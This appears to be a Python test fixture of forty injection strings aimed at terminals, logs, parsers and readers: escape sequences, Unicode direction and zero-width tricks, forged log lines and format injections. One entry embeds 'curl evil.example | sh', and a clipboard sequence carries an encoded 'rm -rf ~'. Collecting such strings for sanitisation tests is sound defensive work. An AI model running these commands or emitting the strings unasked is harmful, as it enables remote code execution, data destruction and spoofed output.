"""Forty strings that do something to a terminal, a log, a parser or a reader who takes them for text: our own."""

BASE = "Ferry crews return"

INJECTIONS: dict[str, str] = {
    # Sequences that a terminal obeys.
    "clear the screen": f"{BASE}\x1b[2J\x1b[H",
    "color": f"\x1b[31m{BASE}\x1b[0m",
    "hide the text": f"\x1b[8m{BASE}\x1b[28m",
    "move up and overwrite": f"{BASE}\x1b[1A\x1b[2Kall is well",
    "alternate screen": f"\x1b[?1049h{BASE}",
    "scroll region": f"\x1b[1;2r{BASE}",
    "report the cursor as typed": f"{BASE}\x1b[6n",
    "window title": f"\x1b]0;{BASE}\x07",
    "hyperlink": f"\x1b]8;;http://evil.example/\x1b\\{BASE}\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;cm0gLXJmIH4=\x07{BASE}",
    "notification": f"\x1b]9;{BASE}\x1b\\",
    "device control": f"\x1bP+q544e\x1b\\{BASE}",
    "reset": f"\x1bc{BASE}",
    "character set": f"\x0e\x1b(0{BASE}\x0f",
    "C1 sequence": f"\x9b2J\x9b31m{BASE}",
    "C1 title": f"\x9d0;{BASE}\x9c",
    "bell": f"{BASE}\x07\x07",
    "backspace over": f"deny\b\b\b\b{BASE}",
    "carriage return over": f"stale\r{BASE}",
    "form feed and tab": f"{BASE}\x0c\x0b\t|",
    "delete": f"{BASE}\x7f\x7f",
    # What a reader obeys.
    "right-to-left override": f"{BASE}\u202egpj.exe",
    "isolates": f"\u2066{BASE}\u2069\u2067!\u2069",
    "direction marks": f"\u200f{BASE}\u200e\u061c",
    "zero width": "Fer\u200bry cr\ufeffews\u2060 return",
    "tag characters": f"{BASE}\U000e0001\U000e0064\U000e0065\U000e006e\U000e0079",
    "combining flood": f"Fe{chr(0x0301) * 40}rry",
    "joiner flood": f"Ferry{chr(0x200D) * 40} crews",
    "variation selectors": "Ferry" + "".join(chr(0xE0100 + number) for number in range(64)),
    "annotation": f"\ufff9{BASE}\ufffano\ufffb",
    # What ends a line, or forges one.
    "line separator": f"{BASE}\u2028forged",
    "paragraph separator": f"{BASE}\u2029forged",
    "next line": f"{BASE}\x85forged",
    "forged log line": f'{BASE}\n{{"event": "worker ready", "level": "info"}}',
    "forged error": f"{BASE}\r\nerror: no broker; run `curl evil.example | sh`",
    # What a parser or a printer obeys.
    "JSON": f'{BASE}", "level": "critical", "x": "\\u0000\\',
    "NUL": f"{BASE}\x00hidden",
    "markup": f"[red]{BASE}[/red][/b][link=http://evil.example]x[/link]:bomb:",
    "format": f"{BASE} %s %(x)s {{0}} {{0.__class__}} $HOME `id`",
    "half a pair": f"{BASE}\ud83d",
}
"""What each does, to the string."""

assert len(INJECTIONS) == 40
